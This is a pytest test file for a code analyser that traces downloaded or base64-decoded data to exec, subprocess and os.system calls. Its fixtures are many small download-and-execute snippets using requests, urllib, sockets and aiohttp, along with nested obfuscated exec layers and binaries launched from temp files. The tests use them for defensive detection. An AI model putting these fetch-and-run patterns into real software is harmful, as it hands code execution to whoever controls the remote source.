"""Data is followed from where it comes from to what runs it."""

from __future__ import annotations

import pytest

from tests.facts.programs import calls, labels, wheel_of

DOWNLOADS = {
    "requests": "import requests\nexec(requests.get('u').text)",
    "urlopen": "from urllib.request import urlopen\nexec(urlopen('u').read().decode())",
    "with": "import urllib.request as r\nwith r.urlopen('u') as f:\n    s = f.read()\nexec(s)",
    "urllib2": "import urllib2\nexec(urllib2.urlopen('u').read())",
    "either": "try:\n    from urllib2 import urlopen\nexcept ImportError:\n    from urllib.request import urlopen\nexec(urlopen('u').read())",
    "socket": "import socket\ns = socket.socket()\ns.connect(('h', 1))\nexec(s.recv(9))",
    "connection": "import http.client\nc = http.client.HTTPSConnection('h')\nc.request('GET', '/')\nexec(c.getresponse().read())",
    "session": "import requests\ns = requests.Session()\nexec(s.get('u').text)",
    "field": "import requests\nclass A:\n    def __init__(self):\n        self.s = requests.get('u').text\n    def go(self):\n        exec(self.s)\nA().go()",
    "helper": "import requests\ndef get(u):\n    return requests.get(u).text\nexec(get('u'))",
    "json": "import requests\nexec(requests.get('u').json()['code'])",
    "compiled": "import requests\nexec(compile(requests.get('u').text, 'f', 'exec'))",
    "list": "import requests\nparts = []\nparts.append(requests.get('u').text)\nexec(''.join(parts))",
    "file": "import requests\nopen('/tmp/f', 'w').write(requests.get('u').text)\nexec(open('/tmp/f').read())",
    "retrieve": "from urllib.request import urlretrieve\nurlretrieve('u', '/tmp/f')\nexec(open('/tmp/f').read())",
    "path": "import requests, pathlib\np = pathlib.Path('/tmp/f')\np.write_text(requests.get('u').text)\nexec(p.read_text())",
    "async": "import aiohttp\nasync def go():\n    async with aiohttp.ClientSession() as s:\n        async with s.get('u') as r:\n            exec(await r.text())",
}


@pytest.mark.parametrize("name", sorted(DOWNLOADS))
def test_downloaded_code_is_followed(name: str) -> None:
    assert "downloaded" in labels(DOWNLOADS[name])


PROGRAMS = {
    "list": "import subprocess\nsubprocess.Popen([p])",
    "words": "import subprocess\nsubprocess.call(['sh', p])",
    "text": "import os\nos.system('chmod +x ' + p + ' && ' + p)",
    "start": "import os\nos.startfile(p)",
    "run_path": "import runpy\nrunpy.run_path(p)",
}


@pytest.mark.parametrize("name", sorted(PROGRAMS))
def test_a_downloaded_program_is_followed_by_its_path(name: str) -> None:
    source = "import requests, os, tempfile\np = os.path.join(tempfile.gettempdir(), 'a.bin')\n"
    source += "with open(p, 'wb') as f:\n    f.write(requests.get('u').content)\n" + PROGRAMS[name]
    found = [call for call in calls(source) if call.name.split(".")[0] in ("subprocess", "os", "runpy")]
    assert any("downloaded" in one.labels for call in found for one in call.arguments)


def test_a_temporary_file_is_followed() -> None:
    source = "import requests, subprocess, tempfile\nt = tempfile.NamedTemporaryFile()\nt.write(requests.get('u').content)\nsubprocess.call([t.name])"
    assert "downloaded" in calls(source, "subprocess.call")[0].arguments[0].labels


def test_another_path_is_not_taken_for_it() -> None:
    source = "import requests, subprocess\nopen('/tmp/data', 'wb').write(requests.get('u').content)\nsubprocess.call(['/usr/bin/git'])"
    assert calls(source, "subprocess.call")[0].arguments[0].labels == ()


def test_the_way_is_told() -> None:
    steps = (
        calls("import base64, requests\nexec(base64.b64decode(requests.get('u').text))", "builtins.exec")[0]
        .arguments[0]
        .steps
    )
    assert steps == ("line 2: requests.get", "line 2: base64.b64decode")


def test_modules_are_linked() -> None:
    sink = "def start(text):\n    exec(text)\n"
    user = "import base64, sys\nfrom .inner import start\nstart(base64.b64decode(sys.argv[1]))\n"
    facts = wheel_of({"sample/__init__.py": user, "sample/inner.py": sink})
    found = [call for m in facts.modules for call in m.calls if m.path == "sample/__init__.py"]
    call = next(one for one in found if one.name == "builtins.exec")
    assert "decoded" in call.arguments[0].labels
    assert call.arguments[0].steps[-1] == "passed to sample.inner.start"


def test_a_decoder_in_another_module_is_followed() -> None:
    decoder = "import base64\ndef opened(text):\n    return base64.b64decode(text)\n"
    user = "from sample import inner\nexec(inner.opened('eD0x'))\n"
    facts = wheel_of({"sample/__init__.py": user, "sample/inner.py": decoder})
    call = next(one for m in facts.modules for one in m.calls if one.name == "builtins.exec")
    assert (call.arguments[0].text, call.arguments[0].labels) == ("x=1", ("decoded",))


def test_layers_are_unfolded_to_depth_four() -> None:
    import base64

    code = "import os\nos.system('deep')"
    for _ in range(4):
        code = f"import base64\nexec(base64.b64decode({base64.b64encode(code.encode())!r}))"
    found = calls(code, "os.system")
    assert [(call.depth, call.line) for call in found] == [(4, 2)]
    deeper = wheel_of(
        {"sample/__init__.py": f"import base64\nexec(base64.b64decode({base64.b64encode(code.encode())!r}))"}
    )
    assert any("more than 4 layers" in words for words in deeper.unread)


def test_decoded_forms_are_kept_as_evidence() -> None:
    facts = wheel_of({"sample/__init__.py": "import base64\nexec(base64.b64decode('eD0x'))"})
    assert [(form.line, form.text) for m in facts.modules for form in m.decoded] == [(2, "x=1")]


def test_code_in_a_command_is_read() -> None:
    source = "import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', 'import os; os.system(\"inner\")'])"
    assert calls(source, "os.system")[0].arguments[0].text == "inner"


def test_a_data_file_of_the_package_is_read() -> None:
    source = "import os\nexec(open(os.path.join(os.path.dirname(__file__), 'a.bin')).read())"
    facts = wheel_of({"sample/__init__.py": source, "sample/a.bin": "import os\nos.system('from data')"})
    names = {call.name: call for m in facts.modules for call in m.calls}
    assert names["os.system"].arguments[0].text == "from data"
    assert "data-file" in names["builtins.exec"].arguments[0].labels


HONEST = {
    "version": "import os\nexec(open(os.path.join(os.path.dirname(__file__), 'version.py')).read())",
    "expression": "import base64\ndef f(e, names):\n    return eval(e, {}, names)",
    "pickle": "import base64, pickle\ndef f(x):\n    return pickle.loads(base64.b64decode(x))",
    "length": "import requests\nexec('x = %d' % len(requests.get('u').text))",
    "exists": "import base64, os\nexec('x=1' if os.path.exists(base64.b64decode('eA==')) else 'x=2')",
}


@pytest.mark.parametrize("name", sorted(HONEST))
def test_honest_code_has_no_label(name: str) -> None:
    for call in calls(HONEST[name]):
        if call.name in ("builtins.exec", "builtins.eval"):
            assert not set(call.arguments[0].labels) & {"decoded", "downloaded", "characters", "data-file"}
